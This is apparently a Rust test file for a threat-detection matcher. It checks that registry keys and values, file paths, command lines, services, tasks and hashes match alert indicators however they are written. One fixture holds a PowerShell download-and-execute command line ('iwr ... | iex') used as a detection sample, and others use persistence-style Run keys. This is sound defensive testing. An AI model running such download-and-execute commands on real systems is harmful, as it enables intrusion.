//! What an alert seeks, found in traces however the alert writes it, and not found in what only resembles it.

use artefacts::{Data, Matcher, RegistryPattern, Trace, What};
use domain::Observable;

fn trace<'a>(what: What, text: &'a str, data: Data<'a>) -> Trace<'a> {
    Trace {
        what,
        text,
        data,
        location: "",
        at: None,
    }
}

/// Tells whether one observable is found in one trace.
#[track_caller]
fn is_found(kind: &str, value: &str, trace: &Trace<'_>) -> bool {
    let observable = Observable::new(kind, value).expect(value);
    let (matcher, refused) = Matcher::new(&[(7, &observable)]);
    assert!(refused.is_empty(), "{value}: {refused:?}");
    let mut found = Vec::new();
    matcher.matches(trace, &mut found);
    assert!(found.is_empty() || found == [7], "{found:?}");
    !found.is_empty()
}

fn key(text: &str) -> Trace<'_> {
    trace(What::RegistryKey, text, Data::None)
}

#[test]
fn finds_a_key_however_its_root_is_written() {
    let machine = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
    let user = r"HKU\an.nguyen\Software\Microsoft\Windows\CurrentVersion\Run";
    let path = r"Software\Microsoft\Windows\CurrentVersion\run";
    for root in [
        "HKLM\\",
        "HKEY_LOCAL_MACHINE\\",
        "hklm:\\",
        r"Computer\HKEY_LOCAL_MACHINE\",
        r"\REGISTRY\MACHINE\",
        "",
    ] {
        let sought = format!("{root}{path}");
        assert!(is_found("registry-key", &sought, &key(machine)), "{sought}");
        assert_eq!(
            is_found("registry-key", &sought, &key(user)),
            root.is_empty(),
            "{sought}"
        );
    }
    for root in [
        "HKCU\\",
        "HKEY_CURRENT_USER\\",
        r"HKU\*\",
        r"HKU\S-1-5-21-1-2-3-1001\",
        r"HKEY_USERS\an.nguyen\",
    ] {
        let sought = format!("{root}{path}");
        assert!(is_found("registry-key", &sought, &key(user)), "{sought}");
        assert!(
            !is_found("registry-key", &sought, &key(machine)),
            "{sought}"
        );
    }
    assert!(!is_found(
        "registry-key",
        &format!(r"HKU\.DEFAULT\{path}"),
        &key(user)
    ));
    assert!(!is_found(
        "registry-key",
        &format!(r"HKU\binh\{path}"),
        &key(user)
    ));
    let service = key(r"HKU\.DEFAULT\Software\x");
    assert!(is_found(
        "registry-key",
        r"HKU\S-1-5-18\Software\X",
        &service
    ));
}

#[test]
fn finds_control_sets_and_classes_by_each_of_their_names() {
    let service = key(r"HKLM\SYSTEM\CurrentControlSet\Services\DiskMgr");
    for sought in [
        r"HKLM\SYSTEM\CurrentControlSet\Services\DiskMgr",
        r"HKLM\SYSTEM\ControlSet001\services\diskmgr",
        r"SYSTEM\CurrentControlSet\Services\DiskMgr",
        r"HKLM\SYSTEM\*\Services\DiskMgr",
    ] {
        assert!(is_found("registry-key", sought, &service), "{sought}");
    }
    let older = key(r"HKLM\SYSTEM\ControlSet003\Services\DiskMgr");
    assert!(!is_found(
        "registry-key",
        r"HKLM\SYSTEM\ControlSet001\Services\DiskMgr",
        &older
    ));
    let class = key(r"HKU\an\Software\Classes\CLSID\{0}");
    for sought in [
        r"HKCR\CLSID\{0}",
        r"HKU\S-1-5-21-1_Classes\CLSID\{0}",
        r"HKCU\Software\Classes\CLSID\{0}",
    ] {
        assert!(is_found("registry-key", sought, &class), "{sought}");
    }
}

#[test]
fn takes_a_star_for_exactly_one_component() {
    let sought = r"HKLM\SOFTWARE\*\Run";
    assert!(is_found(
        "registry-key",
        sought,
        &key(r"HKLM\SOFTWARE\Vendor\Run")
    ));
    assert!(!is_found(
        "registry-key",
        sought,
        &key(r"HKLM\SOFTWARE\Vendor\Product\Run")
    ));
    assert!(!is_found(
        "registry-key",
        sought,
        &key(r"HKLM\SOFTWARE\Run")
    ));
    assert!(is_found(
        "registry-key",
        r"HKLM\SOFTWARE\Vendor\*",
        &key(r"HKLM\SOFTWARE\Vendor\Any")
    ));
}

#[test]
fn finds_a_value_by_its_name_and_by_its_data() {
    let text = r"HKLM\SOFTWARE\Run\McAfee";
    let data = Data::Text(r#""C:\Program Files\McAfee.exe""#);
    let value = trace(What::RegistryValue, text, data);
    for (sought, expected) in [
        (r"HKLM\SOFTWARE\Run\McAfee", true),
        (r"HKLM\SOFTWARE\Run\\McAfee", true),
        (r"HKLM\\SOFTWARE\\Run\\McAfee", true),
        (
            r"HKLM\SOFTWARE\Run\McAfee=C:\Program Files\mcafee.exe",
            true,
        ),
        (r"HKLM\SOFTWARE\Run\\McAfee=C:\other.exe", false),
        (r"HKLM\SOFTWARE\Run\Other", false),
    ] {
        assert_eq!(
            is_found("registry-value", sought, &value),
            expected,
            "{sought}"
        );
    }
    // What people call a key is often a value.
    assert!(is_found("registry-key", text, &value));
    let number = trace(
        What::RegistryValue,
        r"HKLM\SOFTWARE\X\Start",
        Data::Number(16),
    );
    for (data, expected) in [
        ("16", true),
        ("0x10", true),
        ("0x00000010", true),
        ("10", false),
    ] {
        let sought = format!(r"HKLM\SOFTWARE\X\Start={data}");
        assert_eq!(
            is_found("registry-value", &sought, &number),
            expected,
            "{sought}"
        );
    }
    let bytes = trace(
        What::RegistryValue,
        r"HKLM\SOFTWARE\X\B",
        Data::Bytes(&[0xde, 0xad]),
    );
    assert!(is_found(
        "registry-value",
        r"HKLM\SOFTWARE\X\B=de,ad",
        &bytes
    ));
    let default = trace(
        What::RegistryValue,
        r"HKLM\SOFTWARE\X\(Default)",
        Data::None,
    );
    for sought in [
        r"HKLM\SOFTWARE\X\",
        r"HKLM\SOFTWARE\X\@",
        r"HKLM\SOFTWARE\X\(default)",
    ] {
        assert!(is_found("registry-value", sought, &default), "{sought}");
    }
    let path_as_name = trace(
        What::RegistryValue,
        r"HKLM\SOFTWARE\X\C:\evil.exe",
        Data::None,
    );
    assert!(is_found(
        "registry-value",
        r"HKLM\SOFTWARE\X\\C:\evil.exe",
        &path_as_name
    ));
    let hidden = trace(
        What::RegistryValue,
        "HKLM\\SOFTWARE\\Run\\\u{2400}McAfee",
        Data::None,
    );
    assert!(is_found(
        "registry-value",
        r"HKLM\SOFTWARE\Run\McAfee",
        &hidden
    ));
}

#[test]
fn a_pattern_finds_its_own_sample() {
    for text in [
        r"HKLM\SOFTWARE\*\Run",
        r"\REGISTRY\USER\S-1-5-21-1-2-3-1001\Software\x",
        r"HKU\.DEFAULT\Software\x\\name=C:\a.exe",
        r"HKCR\exefile",
        r"HKCC\System",
        r"SOFTWARE\x\name",
        r"HKLM\SYSTEM\ControlSet001\x",
    ] {
        let (path, data) = RegistryPattern::parse_value(text).unwrap().sample();
        let data = data.as_deref().map_or(Data::None, Data::Text);
        let trace = trace(What::RegistryValue, &path, data);
        assert!(is_found("registry-value", text, &trace), "{text}: {path}");
    }
}

#[test]
fn finds_a_value_whose_name_begins_with_a_separator() {
    let run = trace(
        What::RegistryValue,
        r"HKLM\SYSTEM\CurrentControlSet\Services\bam\S-1\\Device\x.exe",
        Data::None,
    );
    for between in ["\\", "\\\\"] {
        let sought = format!(r"HKLM\SYSTEM\ControlSet001\Services\bam\S-1{between}Device\x.exe");
        assert!(is_found("registry-value", &sought, &run), "{sought}");
    }
}

#[test]
fn refuses_what_names_no_key() {
    for text in ["Run", r"HKLM\", r"HKLM", r"HKLM\*", r"C:\x\y", "HKU\\x"] {
        let observable = Observable::new("registry-key", text).unwrap();
        let (_, refused) = Matcher::new(&[(3, &observable)]);
        assert_eq!(refused.len(), 1, "{text}");
        assert_eq!(refused[0].0, 3);
    }
}

#[test]
fn finds_a_file_in_paths_of_every_form() {
    let sought = r"C:\Windows\system32\DiskMgers.dll";
    for path in [
        r"C:\Windows\system32\DiskMgers.dll",
        r"\??\c:\windows\SYSTEM32\diskmgers.dll",
        r"\VOLUME{01d1ee}\WINDOWS\SYSTEM32\DISKMGERS.DLL",
        r"\Device\HarddiskVolume2\Windows\System32\DiskMgers.dll",
        r"\SystemRoot\System32\DiskMgers.dll",
        r"%SystemRoot%\System32\DiskMgers.dll",
        r"system32\DiskMgers.dll",
        r"\Windows\System32\DiskMgers.dll:stream",
    ] {
        assert!(
            is_found("path", sought, &trace(What::FilePath, path, Data::None)),
            "{path}"
        );
        assert!(
            is_found(
                "file-name",
                "diskmgers.DLL",
                &trace(What::FilePath, path, Data::None)
            ),
            "{path}"
        );
    }
    let elsewhere = trace(What::FilePath, r"D:\tools\DiskMgers.dll", Data::None);
    assert!(!is_found("path", sought, &elsewhere));
    let user = trace(What::FilePath, r"%APPDATA%\upd.exe", Data::None);
    assert!(is_found("path", r"%APPDATA%\upd.exe", &user));
}

#[test]
fn finds_a_file_in_command_lines() {
    let sought = r"C:\Program Files\Common Files\McAfee\McUtil.dll";
    for line in [
        r#"rundll32.exe "C:\Program Files\Common Files\McAfee\McUtil.dll",Start"#,
        r"rundll32 C:\Program Files\Common Files\McAfee\McUtil.dll,#1",
        r"cmd /c C:\Program Files\Common Files\McAfee\McUtil.dll /x",
        r"%CommonProgramFiles%\McAfee\McUtil.dll",
    ] {
        let line = trace(What::CommandLine, line, Data::None);
        assert!(is_found("path", sought, &line), "{line:?}");
        assert!(is_found("file-name", "mcutil.dll", &line), "{line:?}");
        assert!(!is_found("file-name", "util.dll", &line), "{line:?}");
    }
    let download = trace(
        What::CommandLine,
        "powershell iwr 'http://a.DCSVN.org/x.ps1'|iex",
        Data::None,
    );
    assert!(is_found("url", "http://a.dcsvn.org/x.ps1", &download));
    assert!(is_found("domain", "*.dcsvn.org", &download));
    assert!(!is_found("domain", "dcsvn.org", &download));
}

#[test]
fn finds_services_tasks_and_digests() {
    let service = trace(What::Service, "DiskMgr", Data::None);
    assert!(is_found("service", "diskmgr", &service));
    let task = trace(
        What::ScheduledTask,
        r"\Microsoft\Windows\DiskPerf",
        Data::None,
    );
    for (sought, expected) in [
        ("DiskPerf", true),
        (r"\DiskPerf", true),
        (r"\Microsoft\Windows\diskperf", true),
        (r"Microsoft\Windows\DiskPerf", true),
        (r"\Other\DiskPerf", false),
    ] {
        assert_eq!(
            is_found("scheduled-task", sought, &task),
            expected,
            "{sought}"
        );
    }
    let digest = "8c073b63d85cbf48bd742a62c7a59eeb064da74d";
    assert!(is_found(
        "sha1",
        &digest.to_uppercase(),
        &trace(What::Sha1, digest, Data::None)
    ));
}

#[test]
fn gives_each_id_once_after_what_was_there() {
    let name = Observable::new("file-name", "a.exe").unwrap();
    let (matcher, _) = Matcher::new(&[(1, &name), (2, &name)]);
    let mut found = vec![1];
    matcher.matches(
        &trace(What::CommandLine, "a.exe a.exe", Data::None),
        &mut found,
    );
    assert_eq!(found, [1, 1, 2]);
}
